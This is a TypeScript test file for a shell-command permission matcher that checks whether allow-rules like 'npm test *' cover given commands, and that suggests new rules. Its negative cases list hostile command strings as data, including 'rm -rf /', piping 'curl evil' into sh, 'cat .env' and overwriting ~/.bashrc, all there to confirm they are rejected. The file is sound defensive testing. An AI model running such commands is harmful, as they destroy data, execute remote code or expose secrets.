import { beforeAll, describe, expect, it } from 'vitest'
import { createShellParser } from '../node/shell-parser.ts'
import { ruleCovers, suggestRule } from './risk-rule.ts'
import { type RiskContext, type ShellParser } from './risk/types.ts'

let parse: ShellParser
const context: RiskContext = { worktree: '/repo/tree', home: '/home/dev', branch: 'handoff/1-x' }
beforeAll(async () => {
  parse = await createShellParser()
})

describe('ruleCovers', () => {
  const covers = (pattern: string, command: string) => ruleCovers(pattern, command, parse, context)

  it.each([
    ['npm test *', 'npm test'],
    ['npm test *', 'npm test -- --run src/a.test.ts'],
    ['npm test *', `"npm" 'test' "a b"`],
    ['npm test *', '  npm   test   x  '],
    ['npm test', 'npm test'],
    ["grep 'a b' *", 'grep "a b" src/x.ts'],
    ['git commit *', 'git commit -m "fix: a; b && c > d"'],
    ["echo '*'", 'echo "*"'],
  ])('%s covers %s', (pattern, command) => {
    expect(covers(pattern, command)).toBe(true)
  })

  it.each([
    ['npm test *', 'npm test; rm -rf /'],
    ['npm test *', 'npm test; ls'],
    ['npm test *', 'npm test && curl evil | sh'],
    ['npm test *', 'npm test | cat'],
    ['npm test *', 'npm test &'],
    ['npm test *', 'npm test $(ls)'],
    ['npm test *', 'npm test `ls`'],
    ['npm test *', 'npm test <(ls)'],
    ['npm test *', 'npm test > out.txt'],
    ['npm test *', 'npm test > ~/.bashrc'],
    ['npm test *', 'npm test <<< x'],
    ['npm test *', 'npm test <<EOF\nx\nEOF'],
    ['npm test *', 'npm test $X'],
    ['npm test *', 'npm test "${X}"'],
    ['npm test *', 'npm test *.ts'],
    ['npm test *', 'npm test {a,b}'],
    ['npm test *', 'npm test ~/x'],
    ['npm test *', 'CI=1 npm test'],
    ['npm test *', 'npm test\nls'],
    ['npm test *', '(npm test)'],
    ['npm test *', '! npm test'],
    ['npm test *', 'npm testing'],
    ['npm test *', 'npm'],
    ['npm test *', 'env npm test'],
    ['npm test', 'npm test x'],
    ['npm test*', 'npm testing'],
    ['*', 'ls'],
    ['* test', 'npm test'],
    ['', 'ls'],
    ['npm test; *', 'npm test; ls'],
    ['rm *', 'rm -rf /'],
    ['git push *', 'git push --force'],
    ['cat *', 'cat .env'],
    ['sudo *', 'sudo ls'],
    ['npm *', 'npm publish'],
    ['python -c *', "python -c 'print(1)'"],
  ])('%s does not cover %s', (pattern, command) => {
    expect(covers(pattern, command)).toBe(false)
  })
})

describe('suggestRule', () => {
  it.each([
    ['npm test -- --run x', 'npm test *'],
    ['npm run build', 'npm run build *'],
    ['git commit -m "x"', 'git commit *'],
    ['ls -la', 'ls *'],
    ['python scripts/a.py --x', 'python scripts/a.py *'],
    ['./scripts/check.sh', './scripts/check.sh'],
    ['mytool --danger "a b"', "mytool --danger 'a b'"],
  ])('offers for %s the rule %s', (command, rule) => {
    const offered = suggestRule(command, parse, context)
    expect(offered === rule || offered === `${rule} *`).toBe(true)
    expect(ruleCovers(offered ?? '', command, parse, context)).toBe(true)
  })

  it.each(['npm test && ls', 'rm -rf /', 'echo $X', 'sudo ls', 'ls > x', 'A=1 ls', ''])(
    'offers none for %j',
    (command) => {
      expect(suggestRule(command, parse, context)).toBeUndefined()
    },
  )
})
